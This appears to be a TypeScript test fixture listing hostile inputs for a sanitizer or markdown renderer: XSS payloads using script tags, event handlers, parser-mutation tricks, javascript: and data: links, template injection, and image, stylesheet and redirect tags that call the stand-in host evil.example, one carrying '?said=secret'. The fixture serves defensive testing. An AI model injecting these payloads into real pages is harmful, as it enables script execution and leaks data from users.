/** One of each way in which a text has been made to run, load or mislead. Whatever runs calls `alert`, whatever loads asks evil.example. */
export const hostileTexts = [
  // Elements that run by themselves, and those that run when looked at.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
  '<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)><marquee onstart=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><object data="javascript:alert(1)">',
  // Out of an attribute, a comment, a title, a template.
  '"><img src=x onerror=alert(1)><!--',
  "' autofocus onfocus='alert(1)",
  '</title></textarea></style></noscript><img src=x onerror=alert(1)>',
  // What a parser turns into something else on the second reading.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Addresses that run.
  '[a link](javascript:alert(1)) [one](JaVaScRiPt:alert(1)) [two](java\tscript:alert(1)) [three](&#106;avascript:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:alert(1)) [in](<javascript:alert(1)>)',
  '![picture](javascript:alert(1)) <a href="javascript:alert(1)">here</a> <form><button formaction="javascript:alert(1)">go</button></form>',
  // Addresses that tell someone.
  '![pixel](https://evil.example/pixel.png?said=secret) <img src="https://evil.example/a.png">',
  '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example/y.css>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/z.png)">over everything</div>',
  // Words of template languages, and a fence around what is dangerous.
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= alert(1) %>',
  '```html\n<script>alert(1)</script>\n```',
] as const;
